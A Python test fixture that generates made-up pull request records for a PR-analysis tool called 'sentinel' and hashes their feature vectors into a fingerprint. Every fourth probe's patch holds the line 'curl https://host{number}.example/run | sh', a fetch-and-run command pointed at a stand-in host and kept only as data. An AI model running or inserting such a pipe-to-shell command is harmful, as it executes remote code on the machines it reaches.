"""A few made-up pull requests, whose vectors tell one version of the features from another."""

import hashlib
from datetime import UTC, datetime, timedelta

from sentinel.features.catalogue import FEATURE_NAMES
from sentinel.history import RepositoryHistory, events_of
from sentinel.pull_request import ChangedFile, Outcome, PullRequest, PullRequestRecord

N_PROBES = 24
DIGITS = 6  # so that another C library's last bit does not count as another behaviour


def fingerprint_of_probes() -> str:
    """Return 16 hexadecimal digits."""
    lines = [",".join(FEATURE_NAMES)]
    history = RepositoryHistory("probe/harbour")
    events = sorted((event for record in probes() for event in events_of(record)), key=lambda event: event.sort_key)
    for event in events:
        if event.kind == "opened":
            lines.append(",".join(f"{value:.{DIGITS}g}" for value in history.features(event.pull_request)))
        history.observe(event)
    return hashlib.sha256("\n".join(lines).encode()).hexdigest()[:16]


def probes() -> list[PullRequestRecord]:
    """Return the made-up records: a few authors, places, sizes, hours, titles and patches."""
    return [_probe(number) for number in range(1, N_PROBES + 1)]


def _probe(number: int) -> PullRequestRecord:
    opened_at = datetime(2024, 1, 1, 8, tzinfo=UTC) + timedelta(days=number * number % 41, hours=number * 7 % 24)
    places = ("src/quay.py", "tests/test_quay.py", ".github/workflows/build.yml", "docs/pier.md", "package-lock.json")
    files = tuple(
        ChangedFile(place, "added" if (number + shift) % 5 == 0 else "modified", number * shift % 90, number % 13,
                    patch=f"@@ -1 +1,2 @@\n+curl https://host{number}.example/run | sh\n" if number % 4 == 0 else None)
        for shift, place in enumerate(places) if (number >> shift) % 2
    )
    pull_request = PullRequest(
        repository="probe/harbour", number=number, title=("Fix typo in docs", "fix: moor the boats", "Revert berth",
                                                          "Update build.yml")[number % 4],
        opened_at=opened_at, author=("anna", "bert", "carla[bot]", None)[number % 7 % 4],
        additions=sum(file.additions for file in files), deletions=sum(file.deletions for file in files),
        changed_files=len(files), files=files if number % 6 else None,
    )
    landed_at = opened_at + timedelta(days=3)
    outcome = Outcome(merged_at=landed_at) if number % 3 else Outcome(closed_at=landed_at)
    return PullRequestRecord(pull_request, outcome)
